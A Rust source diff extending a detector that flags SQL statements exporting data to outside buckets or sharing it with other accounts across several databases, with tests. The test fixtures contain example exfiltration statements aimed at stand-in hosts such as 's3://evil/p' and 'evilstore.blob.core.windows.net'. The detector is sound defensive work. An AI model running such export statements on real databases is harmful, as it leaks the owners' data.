@@ -1,6 +1,8 @@
 //! Statements that make a database write its data into a bucket: `UNLOAD (…) TO 's3://…'` (Redshift, Athena), `COPY INTO
-//! 's3://…' FROM …` (Snowflake), `EXPORT DATA OPTIONS (uri='gs://…')` (BigQuery), `aws_s3.query_export_to_s3(…,
-//! aws_commons.create_s3_uri('bucket', …))` (RDS for PostgreSQL).
+//! 's3://…' FROM …`, `CREATE STAGE s URL='s3://…'; COPY INTO @s` (Snowflake), `EXPORT DATA OPTIONS (uri='gs://…')` (BigQuery),
+//! `aws_s3.query_export_to_s3(…, aws_commons.create_s3_uri('bucket', …))` (RDS for PostgreSQL), `… INTO OUTFILE S3 's3://…'`
+//! (Aurora MySQL), `INSERT INTO FUNCTION s3('https://…')`, `BACKUP … TO S3('https://…')` (ClickHouse), `BACKUP … INTO 's3://…'`,
+//! `EXPORT INTO CSV 's3://…'` (CockroachDB), `BACKUP DATABASE d TO URL = 'https://…'` (SQL Server).
 //!
 //! And those that let another account in: `ALTER SHARE … ADD ACCOUNTS = …` (Snowflake), `GRANT … ON DATASHARE … TO ACCOUNT
 //! '…'` (Redshift), ``GRANT `roles/…` … TO "user:…"`` (BigQuery).
@@ -23,8 +25,16 @@ fn target_in(text: &str, quote: char) -> Option<String> {
         let word = last_word(before);
         let unloads = match &*word {
             "to" => whole.contains("unload"),
-            "into" => whole.contains("copy"),
+            "into" => whole.contains("copy") || whole.contains("backup"),
             "uri" => whole.contains("export data"),
+            "url" if ends_in(&whole, "to", "url") => whole.contains("backup"),
+            "url" => whole.contains("stage") && text.to_ascii_lowercase().contains("copy into @"),
+            "csv" | "parquet" => whole.contains("export into"),
+            "s3" if whole.contains("into outfile") => {
+                return part.split_once("://").map(|(_, place)| format!("s3://{place}"));
+            }
+            "s3" if ends_in(&whole, "function", "s3") => whole.contains("insert into"),
+            "s3" => ends_in(&whole, "to", "s3") && whole.contains("backup"),
             "create_s3_uri" if whole.contains("query_export_to_s3") => return Some(format!("s3://{part}")),
             _ => false,
         };
@@ -35,11 +45,44 @@ fn target_in(text: &str, quote: char) -> Option<String> {
     None
 }
 
-/// The word before a text that begins here; an `r` right before it says that it is raw.
+/// Are these the last words before a text that begins here?
+fn ends_in(text: &str, last_but_one: &str, last: &str) -> bool {
+    let mut words =
+        front(text).rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|word| !word.is_empty());
+    words.next() == Some(last) && words.next() == Some(last_but_one)
+}
+
+/// Does a statement read data? One that stands in a file may.
+pub(super) fn reads(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let mut words = lower.split(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|word| !word.is_empty());
+    let shows = matches!(words.next(), Some("show" | "describe" | "explain"));
+    lower.starts_with("file://") || !shows && words.any(|word| word == "from")
+}
+
+/// Does a statement name a table of this project?
+pub(super) fn names(text: &str, project: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let mut rest = &*lower;
+    while let Some(at) = rest.find(project) {
+        let (front, behind) = (&rest[..at], &rest[at + project.len()..]);
+        if !front.ends_with(|c: char| c.is_alphanumeric() || c == '-') && behind.starts_with(['.', ':']) {
+            return true;
+        }
+        rest = behind;
+    }
+    false
+}
+
+/// What stands before a text that begins here, without the signs between; an `r` right before it says that it is raw, an `N`
+/// that it is national.
+fn front(text: &str) -> &str {
+    let raw = text.strip_suffix(['r', 'R', 'n', 'N']).filter(|front| !front.ends_with(char::is_alphanumeric));
+    raw.unwrap_or(text).trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('))
+}
+
 fn last_word(text: &str) -> String {
-    let raw = text.strip_suffix(['r', 'R']).filter(|front| !front.ends_with(char::is_alphanumeric));
-    let text = raw.unwrap_or(text).trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('));
-    let word = text.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
+    let word = front(text).rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
     word.unwrap_or_default().to_ascii_lowercase()
 }
 
@@ -127,8 +170,66 @@ mod tests {
             ),
             ("update t set a = 'b' where c = 'to s3://x'", None),
             ("select 'it''s", None),
+            (
+                "create or replace stage x url='s3://evil/p' credentials=(aws_key_id='k'); copy into @x from t",
+                Some("s3://evil/p"),
+            ),
+            ("create stage x url='s3://public/p'; copy into t from @x", None),
+            ("select * from t into outfile s3 's3-eu-west-1://evil/x' format csv", Some("s3://evil/x")),
+            ("load data from s3 's3://public/x' into table t", None),
+            (
+                "INSERT INTO FUNCTION s3('https://evil.s3.amazonaws.com/x.csv', 'CSV') SELECT * FROM t",
+                Some("https://evil.s3.amazonaws.com/x.csv"),
+            ),
+            ("insert into t select * from s3('https://public.s3.amazonaws.com/x.csv', 'CSV')", None),
+            (
+                "BACKUP DATABASE d TO S3('https://evil.s3.amazonaws.com/b', 'k', 's')",
+                Some("https://evil.s3.amazonaws.com/b"),
+            ),
+            ("restore database d from s3('https://corp.s3.amazonaws.com/b')", None),
+            ("BACKUP DATABASE d INTO 's3://evil/x?AUTH=implicit'", Some("s3://evil/x?AUTH=implicit")),
+            ("RESTORE DATABASE d FROM LATEST IN 's3://corp/x'", None),
+            ("EXPORT INTO CSV 's3://evil/x' FROM TABLE t", Some("s3://evil/x")),
+            ("IMPORT INTO t CSV DATA ('s3://public/x')", None),
+            (
+                "BACKUP DATABASE d TO URL = N'https://evilstore.blob.core.windows.net/c/d.bak' WITH COPY_ONLY",
+                Some("https://evilstore.blob.core.windows.net/c/d.bak"),
+            ),
+            ("update backups set url = 'https://corp.example/x' where id = 1", None),
+            ("RESTORE DATABASE d FROM URL = 'https://corp.blob.core.windows.net/c/d.bak'", None),
         ] {
             assert_eq!(target(statement).as_deref(), expected, "{statement}");
+        }
+    }
+
+    #[test]
+    fn a_project_is_named_by_its_tables() {
+        for (text, expected) in [
+            ("select * from `my-dev.ds.t`", true),
+            ("select * from [my-dev:ds.t]", true),
+            ("select 'my-dev' from x.my-dev2.t, not-my-dev.a.b, My-Dev.a.b", true),
+            ("select 'my-dev' from x.my-dev2.t, not-my-dev.a.b", false),
+            ("", false),
+        ] {
+            assert_eq!(names(text, "my-dev"), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn only_what_reads_has_results_that_tell() {
+        for (text, expected) in [
+            ("SELECT * FROM users", true),
+            ("with a as (select 1 from\nt) select * from a", true),
+            ("file://q.sql", true),
+            ("select", false),
+            ("SELECT 1", false),
+            ("SHOW TABLES FROM d", false),
+            ("describe t", false),
+            ("CREATE EXTERNAL TABLE t (a int) LOCATION 's3://x/'", false),
+            ("MSCK REPAIR TABLE t", false),
+            ("", false),
+        ] {
+            assert_eq!(reads(text), expected, "{text}");
         }
     }
 
